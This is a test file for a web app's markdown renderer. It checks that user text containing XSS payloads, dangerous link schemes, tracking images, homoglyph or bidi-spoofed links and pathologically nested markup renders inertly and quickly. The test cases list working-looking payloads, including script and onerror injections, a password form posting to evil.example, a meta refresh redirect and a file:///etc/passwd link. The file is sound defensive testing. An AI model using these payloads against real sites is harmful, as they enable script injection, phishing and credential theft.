/** Texts that would run, load, mislead or break something if they were taken for more than words. */

import { createMemoryHistory, createRootRoute, createRouter, RouterContextProvider } from "@tanstack/react-router";
import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test, vi } from "vitest";
import { costMs } from "../../../convex/lib/pure/cost.testing";
import { Elements } from "./elements";
import * as marks from "./marks-to-elements";
import { placeOf } from "./pieces";

const router = createRouter({ routeTree: createRootRoute(), history: createMemoryHistory() });
/** The text on a page with links. */
const Page = ({ text }: { text: string }) =>
  RouterContextProvider({ router, children: createElement(Elements, { text, level: 2 }) });

/** A text as it is drawn. */
function drawn(text: string): string {
  return renderToStaticMarkup(createElement(Page, { text }));
}

/** What somebody reads of it. */
function words(text: string): string {
  return drawn(text)
    .replaceAll(/<svg.*?<\/svg>/g, "")
    .replaceAll(" (opens in a new tab)", "")
    .replaceAll(/<[^>]*>/g, "")
    .replaceAll("&lt;", "<")
    .replaceAll("&gt;", ">")
    .replaceAll("&quot;", '"')
    .replaceAll("&#x27;", "'")
    .replaceAll("&amp;", "&");
}

/** Names of all elements and their attributes. */
function names(html: string): string[] {
  const own = html.replaceAll(/<svg[^>]* class="lucide.*?<\/svg>/g, "");
  return [...own.matchAll(/<([a-z0-9]+)((?:\s[^<>]*)?)>/gi)].flatMap(([, name = "", attributes = ""]) => [
    name,
    ...[...attributes.matchAll(/\s([a-z-]+)=/gi)].map(([, attribute]) => attribute ?? ""),
  ]);
}

/** What words with an address within them are drawn with. */
const HARMLESS = "div p class dir a href target rel bdi span".split(" ");

describe("[W1] HTML is text", () => {
  test.each([
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<svg/onload="alert(1)"><circle r="9"/></svg>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<style>*{display:none}</style>",
    '<a href="javascript:alert(1)">click</a>',
    '<form action="https://evil.example"><input name="password"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<!-- hidden --> shown",
    '<![CDATA[x]]><?php echo "x" ?>',
    "&lt;script&gt; and &#106;avascript&colon;",
    '"><b onmouseover=alert(1)>b</b>',
    "{{constructor.constructor('alert(1)')()}}",
    "<div>\n\n<script>alert(1)</script>\n\n</div>",
  ])("%j", (text) => {
    expect(words(text).replaceAll("\n", "")).toContain(text.replaceAll("\n", ""));
    expect(names(drawn(text)).filter((name) => !HARMLESS.includes(name))).toEqual([]);
  });
});

describe("[W1] a link leads to pages alone, and what leads anywhere else is shown with its address", () => {
  test.each([
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml;base64,PHN2Zz4=",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "//evil.example/sign-in",
    "https://portal.example@evil.example",
    "/api/auth/sign-out",
    "/signout",
    "/auto-signin?token=1",
    "../../admin",
    "ms-settings:x",
  ])("%s", (address) => {
    expect(names(drawn(`[click](${address})`))).not.toContain("href");
    expect(words(`[click](${address})`)).toBe(`click (${address})`);
  });

  test.each([
    "/\\evil.example",
    "\\\\evil.example",
    "/\t/evil.example",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    "",
  ])("%j leads nowhere", (address) => {
    expect(placeOf(address)).toBeNull();
  });

  test("one that leads outside says where, whatever its words say, and hands nothing on", () => {
    const html = drawn("[https://portal.example/sign-in](https://evil.example/sign-in)");
    expect(html).toContain('href="https://evil.example/sign-in"');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
    expect(words("[https://portal.example/sign-in](https://evil.example/sign-in)")).toContain("(evil.example)");
  });

  test("one with letters that look like others says the name the network uses", () => {
    expect(words("[the portal](https://pоrtal.example)")).toContain("(xn--prtal-jye.example)");
  });

  test("one whose words turn the direction shows that, and stands apart from what surrounds it", () => {
    expect(words("[\u202Emoc.elgoog](https://evil.example)")).toContain("[U+202E]moc.elgoog");
    expect(drawn("[a](https://evil.example)")).toMatch(/<bdi>a<\/bdi>/);
  });

  test("an address kept apart from its link is none: words in brackets stay words", () => {
    expect(drawn("[redacted]\n\n[redacted]: https://evil.example")).toMatch(/<p[^>]*>\[redacted\]<\/p>/);
  });
});

describe("[W1] nothing is loaded when something is read", () => {
  test.each([
    "![](https://evil.example/pixel.png)",
    "![alt](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![alt](/api/files/1)",
    "[![a](https://evil.example/a.png)](https://evil.example/b)",
    '![a](https://evil.example/a.png "onerror=alert(1)")',
    "![a][b]\n\n[b]: https://evil.example/a.png",
  ])("%j", (text) => {
    expect(names(drawn(text))).not.toContain("img");
    expect(names(drawn(text))).not.toContain("src");
  });

  test("a picture is a link to where it lies", () => {
    expect(drawn("![the screen](https://example.org/a.png)")).toContain('href="https://example.org/a.png"');
  });

  test("one that came past what makes a link of it is not drawn, and nothing is loaded", () => {
    const withLinks = vi.spyOn(marks, "withLinks").mockReturnValue(() => undefined);
    try {
      expect(drawn("before ![a](https://a.example/b.png) after")).toMatch(/before .*after/);
      expect(drawn("![a](https://a.example/b.png)")).not.toMatch(/img|a\.example/);
      expect(withLinks).toHaveBeenCalled();
    } finally {
      withLinks.mockRestore();
    }
  });

  test("a file of the portal that its reader has not is its name: no address, nothing to press", () => {
    for (const text of ["![the plan](file:k57abc)", "[the plan](file:k57abc)"]) {
      expect(words(text)).toBe("the plan");
      expect(names(drawn(text)).filter((name) => !["div", "p", "class", "dir", "bdi"].includes(name))).toEqual([]);
    }
  });

  test.each(["file:../../api/x", "file:k57/../../x", "file:k57?x=1", "FILE:k57", "file:"])(
    "%s stands for no file",
    (address) => {
      expect(words(`![a](${address})`)).toContain(`(${address})`);
      expect(names(drawn(`![a](${address})`))).not.toContain("button");
    },
  );

  test("no link stands within another", () => {
    const html = drawn("[see TKT-1 and https://a.example ![x](https://b.example)](https://c.example)");
    expect([...html.matchAll(/<a /g)]).toHaveLength(1);
  });
});

describe("a text breaks no page", () => {
  test.each([
    ["quotes within quotes", `${">".repeat(4000)}a`],
    ["quotes with spaces", `${"> ".repeat(2000)}a`],
    ["lists within lists", `${"- ".repeat(2000)}a`],
    ["numbered lists within lists", `${"1. ".repeat(1300)}a`],
    ["lists and quotes in turn", `${"- > ".repeat(1000)}a`],
    ["emphasis within emphasis", "*a **b ".repeat(600) + "** c*".repeat(600)],
    ["brackets", "[".repeat(4000)],
    ["brackets that close", `${"[".repeat(1300)}a${"](b)".repeat(600)}`],
    ["backticks", "`".repeat(4000)],
    ["stars", "*".repeat(4000)],
    ["a word without end", "a".repeat(20_000)],
    ["pictures that never end", "![".repeat(10_000)],
    ["lines of a list", "- a\n".repeat(5000)],
    ["a table of empty rows below a wide head", `${"|a".repeat(2500)}\n${"|-".repeat(2500)}\n${"|\n".repeat(5000)}`],
    ["the same within a quote", `> ${"|a".repeat(2500)}\n> ${"|-".repeat(2500)}\n${"> |\n".repeat(2500)}`],
    ["a table of one long row", `|a|\n|-|\n|${"x|".repeat(10_000)}`],
    ["a table of as many cells as are drawn", `|a|b|\n|-|-|\n${"|c|d|\n".repeat(1600)}`],
    ["heads of tables without end", "|a|\n|-|\n\n".repeat(1500)],
    ["what almost is the line below a head", `|a|\n|${"-".repeat(20_000)}x|`],
  ])("%s", (_, text) => {
    expect(costMs(() => drawn(text))).toBeLessThan(3000);
  });

  test("what is nested without end is shown as it was written", () => {
    expect(words(`${">".repeat(4000)}a`)).toBe(`${">".repeat(4000)}a`);
    const emphasis = `${"*a **b ".repeat(2000)}${"** c*".repeat(2000)}`;
    expect(words(emphasis)).toBe(emphasis);
    expect(drawn("*one* **two** ".repeat(500))).toContain("<em");
  });

  test("a table with more cells than a person reads is shown as it was written", () => {
    const text = `${"|a".repeat(100)}\n${"|-".repeat(100)}\n${"|b\n".repeat(100)}`.trim();
    expect(words(text)).toBe(text);
    expect(drawn("|a|\n|-|\n|b|")).toContain("<table");
  });

  test("marks that turn the direction are seen, also in code", () => {
    expect(words("user\u202Eexe and `a\u2066b`")).toBe("user[U+202E]exe and a[U+2066]b");
  });
});
